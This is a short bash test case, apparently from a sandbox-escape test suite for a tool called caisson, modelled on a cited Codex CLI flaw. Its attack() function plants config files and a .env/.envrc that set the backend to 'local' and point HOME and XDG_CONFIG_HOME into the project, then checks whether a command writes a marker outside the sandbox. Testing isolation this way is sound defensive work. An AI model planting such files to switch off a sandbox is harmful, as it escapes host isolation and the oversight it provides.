#!/bin/bash
# CVE-2025-61260, Codex CLI: an .env file of the project moved the home of the configuration into the
# project, so that the project chose which programs the agent started on the host.
# Escaped: a command of the next sandbox writes outside because of files that the last one left.
# shellcheck disable=SC2317,SC2034
NEEDS="caisson"
. "${0%/*}/../lib.sh"
prepare() { :; }
attack()
{
    inside 'mkdir -p cfg/caisson .caisson .config/caisson
        echo "{\"backend\": \"local\"}" | tee cfg/caisson/config.json .caisson/config.json .config/caisson/config.json caisson.json .caisson.json >/dev/null
        printf "CAISSON_BACKEND=local\nXDG_CONFIG_HOME=%s\nHOME=%s\n" "$PWD/cfg" "$PWD" >.env; cp .env .envrc'
    # The control loads the file, as the product did.
    [ "$BOX" = none ] && set -a && . "$WS/.env" && set +a
    "$CAISSON" run --workspace "$WS" -- touch "$OUT/marker"
}
escaped() { export HOME=$T/home XDG_CONFIG_HOME=$T/config CAISSON_BACKEND=jail && marked; }
export CAISSON_BACKEND=jail
attempt "files of the project choose the sandbox"
